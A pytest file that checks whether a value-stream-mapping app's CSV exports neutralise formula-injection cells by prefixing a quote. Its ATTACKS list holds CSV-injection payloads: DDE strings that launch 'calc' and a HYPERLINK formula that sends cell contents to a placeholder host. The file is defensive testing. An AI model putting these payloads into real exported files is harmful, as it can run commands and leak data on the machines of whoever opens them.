"""No CSV the product writes carries a formula to a spreadsheet (OWASP "CSV Injection").

Deployment ids and environments come from imported exports, stage names from a project
someone shared: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written with a leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from tests.ingest.conftest_git import RepoBuilder
from vsm_app.report.tables import neutralise_cell
from vsm_app.services.tables import write_table_csv, write_tables

ATTACKS = ["=HYPERLINK(\"http://x.invalid?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[list[str]]:
    # bytes, not read_text(): a quoted "\r" inside a cell must not become a line end
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def shown(value: str) -> str:
    """How a neutralised attack reads back: a leading quote; a CR is a line feed."""
    return "'" + value.replace("\r", "\n")


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_text_gets_a_quote(value: str) -> None:
    assert neutralise_cell(value) == shown(value)


def test_a_carriage_return_inside_a_cell_cannot_start_a_row(tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": ["ok\r=1+1", "next"], "n": [1, 2]})
    rows = _cells(write_table_csv(frame, tmp_path / "t.csv"))
    assert rows == [["id", "n"], ["ok\n=1+1", "1"], ["next", "2"]]


@pytest.mark.parametrize("value", ["Review", "sha 1a2b", "", "a=b", " =x", "'quoted",
                                   3600.0, -1.5, 7, None])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value


def test_table_csv_text_cells_and_headers_numbers_stay(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "stage": pd.array(ATTACKS + ["Review"], dtype="string"),
        "note": ATTACKS[::-1] + [None],
        "wait_s": [-3600.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.5],
        "=evil header": [1, 2, 3, 4, 5, 6, 7],
    })
    p = write_table_csv(frame, tmp_path / "t.csv", excel=True)
    rows = _cells(p)
    assert rows[0] == ["stage", "note", "wait_s", "'=evil header"]
    assert [r[0] for r in rows[1:]] == [shown(a) for a in ATTACKS] + ["Review"]
    assert [r[1] for r in rows[1:]] == [shown(a) for a in ATTACKS[::-1]] + [""]
    assert [r[2] for r in rows[1:]] == ["-3600.0", "1.0", "2.0", "3.0", "4.0", "5.0", "6.5"]
    assert frame["stage"].iloc[0] == ATTACKS[0]  # the caller's frame is not changed


def test_analyze_export_changes_neutralises_imported_ids(tmp_path: Path) -> None:
    b = RepoBuilder(tmp_path / "repo")
    first = b.commit("feat: one", 0)
    second = b.commit("fix: two", 2)
    rows = [("deployment_id", "sha", "environment", "started_at", "finished_at", "status"),
            (ATTACKS[0], first, "production", "2025-03-03T10:00:00Z", "2025-03-03T10:05:00Z",
             "success"),
            (ATTACKS[3], second, "production", "2025-03-03T12:00:00Z", "2025-03-03T12:05:00Z",
             "success")]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    (tmp_path / "deploys.csv").write_text(out.getvalue())
    r = subprocess.run([sys.executable, "-m", "vsm_app", "analyze", "--repo", str(b.path),
                        "--deployments", "deploys.csv", "--export-changes", "changes.csv",
                        "--json"], cwd=tmp_path, capture_output=True, text=True, timeout=180)
    assert r.returncode == 0, r.stderr
    table = _cells(tmp_path / "changes.csv")
    col = table[0].index("deployment_id")
    assert sorted(row[col] for row in table[1:]) == sorted([shown(ATTACKS[0]), shown(ATTACKS[3])])


def test_gui_tables_and_per_stage_csvs(tmp_path: Path) -> None:
    import copy

    from tests.report.demo_data import demo_measurement

    m = copy.copy(demo_measurement())  # shared by other tests: change copies only
    m.tables = copy.copy(m.tables)
    m.result = copy.copy(m.result)
    m.tables.deployments = m.tables.deployments.copy()
    m.tables.deployments["deployment_id"] = pd.array(
        [ATTACKS[i % len(ATTACKS)] for i in range(len(m.tables.deployments))], dtype="string")
    m.result.stage_summary = m.result.stage_summary.copy()
    m.result.stage_summary["stage"] = pd.array(
        [f"@stage {i}" for i in range(len(m.result.stage_summary))], dtype="string")
    paths = write_tables(m, tmp_path, excel=True)
    texts = {p.name: _cells(p) for p in paths}
    deployments = texts["deployments.csv"]
    col = deployments[0].index("deployment_id")
    assert {row[col] for row in deployments[1:]} == {shown(a) for a in ATTACKS}
    stats = texts["stage_statistics.csv"]
    col = stats[0].index("stage")
    assert [row[col] for row in stats[1:]] == [f"'@stage {i}" for i in range(len(stats) - 1)]
    for name, cells in texts.items():  # nothing anywhere starts a formula
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for row in cells for c in row), \
            name
